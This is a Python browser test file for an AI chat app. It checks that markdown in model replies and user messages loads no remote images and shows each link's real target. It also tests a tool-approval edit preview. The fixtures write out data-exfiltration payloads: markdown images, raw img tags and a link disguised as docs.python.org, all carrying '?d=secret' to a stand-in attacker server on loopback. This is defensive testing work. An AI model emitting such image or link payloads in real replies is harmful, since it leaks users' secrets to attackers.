"""In real headless Chromium: the web app loads nothing remote from model text or
the person's own messages, shows every link's target, and the edit preview follows
the arguments as they are typed.

A model that read a secret with a free tool answers with an image whose URL carries
it; a local HTTP server on loopback stands for the attacker's and records every
request. After the reply is drawn (live, then again from the history after a
reload) a control image is loaded by the test itself: once the server has seen
that one, it must have seen nothing else.
"""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from tests.support.browser import (
    Server,
    choose,
    chromium_browser,
    chromium_path,
    screenshot,
    script_idle,
    signed_in_page,
    streamlit_server,
)

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.timeout(240)]
playwright_api = pytest.importorskip("playwright.sync_api")

WAIT_MS = 30_000
PIXEL = bytes.fromhex(
    "47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b"
)


class Recorder(BaseHTTPRequestHandler):
    seen: list[str]
    arrived: threading.Condition

    def do_GET(self) -> None:  # noqa: N802 - the http.server name
        with self.arrived:
            self.seen.append(self.path)
            self.arrived.notify_all()
        self.send_response(200)
        self.send_header("Content-Type", "image/gif")
        self.send_header("Content-Length", str(len(PIXEL)))
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(PIXEL)

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture(scope="module")
def attacker() -> Iterator[tuple[int, list[str], threading.Condition]]:
    seen: list[str] = []
    arrived = threading.Condition()
    handler = type("Handler", (Recorder,), {"seen": seen, "arrived": arrived})
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    yield httpd.server_address[1], seen, arrived
    httpd.shutdown()
    httpd.server_close()


def reply_for(port: int) -> str:
    base = f"http://127.0.0.1:{port}"
    return (
        f"Here is the status: ![status]({base}/px.gif?d=secret)\n\n"
        f'Also ![ref image][pic] and <img src="{base}/raw.gif?d=secret"> and '
        f"[docs.python.org]({base}/steal?d=secret).\n\n"
        f"| a |\n|---|\n| ![cell]({base}/cell.gif) |\n\n"
        f"[pic]: {base}/ref.gif?d=secret\n"
    )


@pytest.fixture(scope="module")
def server(
    tmp_path_factory: pytest.TempPathFactory, attacker: tuple[int, list[str], Any]
) -> Iterator[Server]:
    chromium_path()
    env = {
        "GATEHOUSE_MODEL_FACTORY": "tests.support.markdown_model:make_model",
        "GATEHOUSE_TEST_REPLY": reply_for(attacker[0]),
    }
    with streamlit_server(tmp_path_factory.mktemp("display"), env) as srv:
        yield srv


@pytest.fixture(scope="module")
def browser(server: Server) -> Iterator[Any]:
    with chromium_browser() as b:
        yield b


@pytest.fixture
def page(browser: Any, server: Server) -> Iterator[Any]:
    with signed_in_page(browser, server, {"width": 1280, "height": 1000}, WAIT_MS) as page:
        page.goto(server.url)
        page.get_by_test_id("stChatInputTextArea").wait_for()
        yield page


def send(page: Any, text: str) -> None:
    box = page.get_by_test_id("stChatInputTextArea")
    playwright_api.expect(box).to_be_enabled()
    box.fill(text)
    box.press("Enter")


def main(page: Any) -> Any:
    return page.get_by_test_id("stMainBlockContainer")


def settle(page: Any) -> None:
    playwright_api.expect(
        page.get_by_test_id("stBottom").get_by_role("button", name="Stop")
    ).to_have_count(0, timeout=WAIT_MS)


def control_request(
    page: Any, port: int, seen: list[str], arrived: threading.Condition
) -> list[str]:
    """Load one image from the page on purpose; once it arrived, return what else did."""
    page.evaluate(
        f"() => {{ const i = new Image(); i.src = 'http://127.0.0.1:{port}/control.gif'; "
        "document.body.appendChild(i); }"
    )
    with arrived:
        assert arrived.wait_for(lambda: "/control.gif" in seen, timeout=WAIT_MS / 1000), seen
    others = [p for p in seen if p != "/control.gif"]
    seen.clear()
    return others


def test_model_and_person_markdown_loads_nothing_and_shows_targets(
    page: Any, attacker: tuple[int, list[str], Any]
) -> None:
    port, seen, arrived = attacker
    base = f"http://127.0.0.1:{port}"
    send(page, f'markdown please ![mine]({base}/mine.gif?d=typed) <img src="{base}/mine-raw.gif">')
    # The targets are on the page as text, where the person can read (and open) them.
    for target in (
        f"{base}/px.gif?d=secret",
        f"{base}/ref.gif?d=secret",
        f"{base}/steal?d=secret",
        f"{base}/cell.gif",
        f"{base}/mine.gif?d=typed",
    ):
        playwright_api.expect(main(page)).to_contain_text(target, timeout=WAIT_MS)
    settle(page)
    assert page.locator(f"img[src*='{port}']").count() == 0
    # The misleading link text is followed by the real destination.
    assert re.search(
        rf"docs\.python\.org\s*{re.escape(base)}/steal\?d=secret", main(page).inner_text()
    )
    link = main(page).get_by_role("link", name="status")
    assert link.get_attribute("href") == f"{base}/px.gif?d=secret"  # an image became a link
    screenshot(page, "markdown-images-as-links")
    assert control_request(page, port, seen, arrived) == []

    page.reload()  # drawn again from the history
    playwright_api.expect(main(page)).to_contain_text(f"{base}/px.gif?d=secret", timeout=WAIT_MS)
    settle(page)
    assert page.locator(f"img[src*='{port}']").count() == 0
    assert control_request(page, port, seen, arrived) == []


def test_edit_preview_follows_typing_and_flags_invalid_arguments(page: Any, server: Server) -> None:
    (server.workspace / "todo.md").write_text("old line\n")
    send(page, "write todo.md: buy milk")
    playwright_api.expect(main(page)).to_contain_text("Approval needed", timeout=WAIT_MS)
    script_idle(page, WAIT_MS)
    choose(main(page), "Edit", timeout_ms=WAIT_MS)  # again if lost (tests/support/browser.py)
    field = main(page).get_by_label("Arguments (JSON)")
    field.wait_for()
    field.click()
    field.press("Control+a")
    # Typed key by key, and the field keeps the focus (no blur, no Ctrl+Enter).
    field.press_sequentially('{"path": "todo.md", "content": "EDITED"}', delay=5)
    playwright_api.expect(main(page)).to_contain_text("+EDITED", timeout=WAIT_MS)
    assert (
        page.evaluate("() => document.activeElement && document.activeElement.tagName")
        == "TEXTAREA"
    )
    field.press("Control+a")
    field.press_sequentially('{"path": 5, "content": "x"}', delay=5)
    playwright_api.expect(main(page)).to_contain_text(
        "Invalid arguments, no preview", timeout=WAIT_MS
    )
    playwright_api.expect(main(page)).not_to_contain_text("+EDITED", timeout=WAIT_MS)
    screenshot(page, "edit-preview-invalid")
